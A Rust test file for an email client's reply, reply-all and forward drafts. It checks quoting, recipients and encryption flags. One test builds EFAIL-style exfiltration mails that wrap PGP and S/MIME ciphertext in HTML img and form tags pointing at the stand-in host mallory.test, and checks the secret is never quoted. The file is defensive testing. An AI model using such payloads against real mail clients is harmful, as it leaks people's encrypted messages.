//! `reply` prints the draft that the window would open; nothing leaves in it that was not whole.

use serde_json::{Value, json};

use super::peers::{GnuPg, openssl, text};
use super::{AT, kakitome, mail, mime, of_corpus, word, write};

fn reply(file: &std::path::Path, more: &[&str]) -> Value {
    let args = ["reply", text(file), "--json", "--keys", "keys", "--at", AT];
    let given = if more.contains(&"--locked") { &[][..] } else { &["--passphrase-file", "passphrases"] };
    let more: Vec<&str> = more.iter().copied().filter(|one| *one != "--locked").collect();
    kakitome([&args[..], given, &more].concat()).document()
}

fn addresses(draft: &Value, list: &str) -> Vec<String> {
    draft[list].as_array().unwrap().iter().map(|one| word(one, "/address").to_owned()).collect()
}

#[test]
fn an_answer_goes_to_the_author_with_the_text_quoted() {
    let draft = reply(&mail("plain"), &[]);
    assert_eq!(addresses(&draft, "to"), ["bob@example.test"]);
    assert_eq!(word(&draft, "/from/address"), "alice@example.test");
    assert_eq!(word(&draft, "/subject"), "Re: Tuesday");
    assert!(word(&draft, "/text").contains("> the meeting is on Tuesday at ten."), "{draft}");
    assert!(word(&draft, "/text").contains("Bob Baker"), "who wrote it");
    assert_eq!(word(&draft, "/in_reply_to"), "plain@example.test");
    assert_eq!(draft["references"], json!(["plain@example.test"]));
    assert_eq!((&draft["encrypt"], &draft["sign"]), (&json!(false), &json!(false)));
}

#[test]
fn an_answer_to_what_was_encrypted_is_encrypted_and_names_the_real_subject() {
    for name in ["pgp-signed-encrypted-hp", "smime-signed-encrypted-hp"] {
        let draft = reply(&mail(name), &[]);
        assert_eq!((&draft["encrypt"], &draft["sign"]), (&json!(true), &json!(true)), "{name}");
        assert_eq!(word(&draft, "/subject"), "Re: The offer");
        assert!(word(&draft, "/text").contains("> the offer is 4,200,000 yen."), "{draft}");
    }
    for name in ["pgp-encrypted-gpg", "smime-auth-enveloped", "pgp-encrypted-inline"] {
        assert_eq!(reply(&mail(name), &[])["encrypt"], json!(true), "{name}");
    }
    assert_eq!(reply(&mail("pgp-signed-gpg"), &[])["encrypt"], json!(false));
}

#[test]
fn what_cannot_be_opened_is_not_quoted_and_still_asks_for_encryption() {
    for (name, more) in [
        ("pgp-encrypted-to-other", &[][..]),
        ("smime-encrypted-to-other", &[]),
        ("pgp-encrypted-locked", &["--locked"]),
    ] {
        for form in [&[][..], &["--all"], &["--forward"]] {
            let draft = reply(&mail(name), &[more, form].concat());
            assert_eq!(draft["encrypt"], json!(true), "{name}");
            let quoted = word(&draft, "/text");
            assert!(!quoted.contains("4,200,000") && !quoted.contains("BEGIN PGP"), "{name}: {quoted}");
        }
    }
}

#[test]
fn what_was_decrypted_in_part_is_never_quoted() {
    let folder = tempfile::tempdir().unwrap();
    let gnupg = GnuPg::with(&["keys/pgp/alice.asc"]);
    let secret = b"Content-Type: text/plain\r\n\r\nthe offer is 4,200,000 yen.\r\n";
    let cert = of_corpus("keys/x509/alice.pem");
    let pgp = gnupg.gpg(&["--armor", "--encrypt", "--recipient", "alice@example.test"], secret);
    let inline =
        gnupg.gpg(&["--armor", "--encrypt", "--recipient", "alice@example.test"], b"the offer is 4,200,000 yen.\r\n");
    let cms =
        |cipher| openssl(&["cms", "-encrypt", "-binary", "-outform", "DER", cipher, "-recip", text(&cert)], secret);
    let layers = [
        ("openpgp", mime::encrypted(&pgp)),
        ("inline", [b"Content-Type: text/plain\r\n\r\n", &inline[..]].concat()),
        ("smime", mime::pkcs7("enveloped-data", &cms("-aes-256-cbc"))),
        ("smime GCM", mime::pkcs7("authEnveloped-data", &cms("-aes-256-gcm"))),
    ];
    let text_part = b"Content-Type: text/plain\r\n\r\nDo you agree?\r\n".to_vec();
    let html = |markup: &str| format!("Content-Type: text/html\r\n\r\n{markup}\r\n").into_bytes();
    for (what, layer) in &layers {
        let surroundings = [
            (text_part.clone(), text_part.clone()),
            (html("<img src=\"https://mallory.test/?"), html("\">")),
            (html("<style>p{display:none}</style>"), text_part.clone()),
            (html("<form action=\"https://mallory.test/\"><textarea name=x>"), html("</textarea></form>")),
        ];
        for (before, after) in surroundings {
            let mut entity = b"Content-Type: multipart/mixed; boundary=\"mix\"\r\n\r\n".to_vec();
            for part in [&before, layer, &after] {
                entity.extend_from_slice(b"--mix\r\n");
                entity.extend_from_slice(part);
                entity.extend_from_slice(b"\r\n");
            }
            entity.extend_from_slice(b"--mix--\r\n");
            let file = write(folder.path(), "x.eml", mime::mail("Mallory <mallory@example.test>", &entity));
            for form in [&[][..], &["--all"], &["--forward"]] {
                let draft = reply(&file, form);
                assert!(!word(&draft, "/text").contains("4,200,000"), "{what} {form:?}: {draft}");
                assert_eq!(draft["encrypt"], json!(true), "{what}");
            }
        }
    }
    for name in ["pgp-direct-exfiltration", "smime-direct-exfiltration"] {
        assert!(!word(&reply(&mail(name), &[]), "/text").contains("4,200,000"), "{name}");
    }
    // Inline text before and after an inline object is such a mixture, too.
    let around = [b"Content-Type: text/plain\r\n\r\nDo you agree?\r\n\r\n", &inline[..], b"\r\nRegards\r\n"].concat();
    let file = write(folder.path(), "x.eml", mime::mail("mallory@example.test", &around));
    let draft = reply(&file, &[]);
    assert!(!word(&draft, "/text").contains("4,200,000"), "{draft}");
    assert_eq!(draft["encrypt"], json!(true));
}

#[test]
fn what_was_hidden_from_the_reader_is_not_quoted() {
    let folder = tempfile::tempdir().unwrap();
    let hidden = "Content-Type: text/html; charset=utf-8\r\n\r\n<p>Hello</p><div style=\"display:none\">secret-one</div>\
        <script>secret-two</script><style>.x{content:'secret-three'}</style><!-- secret-four -->\r\n";
    let file = write(folder.path(), "x.eml", mime::mail("bob@example.test", hidden.as_bytes()));
    let draft = reply(&file, &[]);
    assert!(word(&draft, "/text").contains("> Hello"));
    for secret in ["secret-one", "secret-two", "secret-three", "secret-four"] {
        assert!(!word(&draft, "/text").contains(secret), "{secret}: {draft}");
    }
}

#[test]
fn an_answer_to_all_reaches_everybody_once_and_not_oneself() {
    let folder = tempfile::tempdir().unwrap();
    let message = "From: Bob <bob@example.test>\r\nTo: Alice <alice@example.test>, carol@example.test\r\n\
        Cc: Carol Chen <carol@example.test>, BOB@example.test, dave@example.test\r\nSubject: RE: plan\r\n\
        Message-ID: <2@example.test>\r\nReferences: <1@example.test>\r\n\r\nx\r\n";
    let file = write(folder.path(), "x.eml", message);
    let draft = reply(&file, &["--all"]);
    assert_eq!(addresses(&draft, "to"), ["bob@example.test"]);
    assert_eq!(addresses(&draft, "cc"), ["carol@example.test", "dave@example.test"]);
    assert_eq!(word(&draft, "/subject"), "RE: plan");
    assert_eq!(draft["references"], json!(["1@example.test", "2@example.test"]));
    let alone = reply(&file, &[]);
    assert_eq!(addresses(&alone, "cc"), Vec::<String>::new());
}

#[test]
fn an_answer_goes_where_reply_to_says() {
    let folder = tempfile::tempdir().unwrap();
    let message = "From: bob@example.test\r\nReply-To: team@example.test\r\nTo: alice@example.test\r\n\r\nx\r\n";
    let draft = reply(&write(folder.path(), "x.eml", message), &[]);
    assert_eq!(addresses(&draft, "to"), ["team@example.test"]);
}

#[test]
fn a_forwarded_message_is_for_nobody_yet_and_says_whose_it_was() {
    let draft = reply(&mail("pgp-signed-encrypted-gpg"), &["--forward"]);
    assert_eq!((addresses(&draft, "to").len(), addresses(&draft, "cc").len()), (0, 0));
    assert_eq!(word(&draft, "/subject"), "Fwd: Tuesday");
    assert!(
        word(&draft, "/text").contains("the offer is 4,200,000 yen.")
            && word(&draft, "/text").contains("bob@example.test")
    );
    assert_eq!((&draft["in_reply_to"], &draft["encrypt"]), (&Value::Null, &json!(true)));
}

#[test]
fn a_message_may_come_from_standard_input_and_a_missing_one_is_named() {
    assert!(kakitome(["reply", "no-such.eml", "--json"]).refused(1).contains("no-such.eml"));
    let empty = kakitome(["reply", "-", "--json"]).document();
    assert_eq!(addresses(&empty, "to"), Vec::<String>::new());
}
